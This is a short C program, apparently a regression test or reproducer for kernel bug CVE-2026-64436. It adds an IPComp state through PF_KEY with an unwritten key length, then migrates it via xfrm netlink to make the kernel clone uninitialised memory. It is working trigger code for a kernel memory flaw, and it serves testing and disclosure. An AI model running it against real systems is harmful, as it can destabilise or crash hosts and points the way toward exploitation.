// SPDX-License-Identifier: GPL-2.0-or-later
//
// CVE-2026-64436: an IPComp state made through PF_KEY has a key length that nobody wrote, and who clones
// the state clones that many bits. Makes one and a policy, and moves both to another address; with
// slub_debug=P the length is 0x6b6b6b6b, so the kernel finds no memory for it.
#include "netlink.h"
#include <arpa/inet.h>
#include <errno.h>
#include <linux/pfkeyv2.h>
#include <linux/xfrm.h>
#include <netinet/in.h>
#include <stdio.h>

struct address {
	struct sadb_address head;
	struct sockaddr_in in;
};

static unsigned int local(int last)
{
	return htonl(0x7f000000 + last);
}

static void fill(struct address *a, int type, int last)
{
	a->head.sadb_address_len = sizeof(*a) / 8;
	a->head.sadb_address_exttype = type;
	a->head.sadb_address_prefixlen = 32;
	a->in.sin_family = AF_INET;
	a->in.sin_addr.s_addr = local(last);
}

static int add_state(void)
{
	struct {
		struct sadb_msg head;
		struct sadb_sa sa;
		struct sadb_x_sa2 mode;
		struct address from, to;
	} m = { { PF_KEY_V2, SADB_ADD, 0, SADB_X_SATYPE_IPCOMP, sizeof(m) / 8, 0, 1, getpid() },
		{ sizeof(m.sa) / 8, SADB_EXT_SA, htonl(0x1234), 0, SADB_SASTATE_MATURE, 0,
		  SADB_X_CALG_DEFLATE, 0 },
		{ sizeof(m.mode) / 8, SADB_X_EXT_SA2, 1 } };
	struct sadb_msg reply[64];
	int s = socket(PF_KEY, SOCK_RAW, PF_KEY_V2);

	fill(&m.from, SADB_EXT_ADDRESS_SRC, 1);
	fill(&m.to, SADB_EXT_ADDRESS_DST, 2);
	if (s < 0 || send(s, &m, sizeof(m), 0) < 0 || recv(s, reply, sizeof(reply), 0) < 0)
		return errno;
	close(s);
	return reply[0].sadb_msg_errno;
}

int main(void)
{
	struct xfrm_userpolicy_info policy = {
		.sel = { .saddr.a4 = local(1), .daddr.a4 = local(2), .prefixlen_s = 32, .prefixlen_d = 32,
			 .family = AF_INET },
		.lft = { XFRM_INF, XFRM_INF, XFRM_INF, XFRM_INF },
		.dir = XFRM_POLICY_IN,
	};
	struct xfrm_user_tmpl template = { .id.proto = IPPROTO_COMP, .family = AF_INET, .ealgos = ~0,
					   .aalgos = ~0, .calgos = ~0 };
	struct xfrm_userpolicy_id which = { .sel = policy.sel, .dir = policy.dir };
	struct xfrm_user_migrate move = {
		.old_saddr.a4 = local(1), .old_daddr.a4 = local(2), .old_family = AF_INET,
		.new_saddr.a4 = local(1), .new_daddr.a4 = local(3), .new_family = AF_INET,
		.proto = IPPROTO_COMP,
	};
	struct xfrm_usersa_flush all = { .proto = IPPROTO_COMP };
	int s = netlink(NETLINK_XFRM), error = add_state();

	if (error) {
		printf("no state: %s\n", strerror(error));
		return 2;
	}
	begin(XFRM_MSG_UPDPOLICY, 0, &policy, sizeof(policy));
	attribute(XFRMA_TMPL, &template, sizeof(template));
	error = -tell(s);
	if (error) {
		printf("no policy: %s\n", strerror(error));
		return 2;
	}
	begin(XFRM_MSG_MIGRATE, 0, &which, sizeof(which));
	attribute(XFRMA_MIGRATE, &move, sizeof(move));
	error = -tell(s);
	begin(XFRM_MSG_FLUSHSA, 0, &all, sizeof(all));
	tell(s);
	begin(XFRM_MSG_DELPOLICY, 0, &which, sizeof(which));
	tell(s);
	printf("IPComp state moved: %s\n", error ? strerror(error) : "yes");
	if (error && error != ENODATA)
		return 2;
	return error != 0;
}
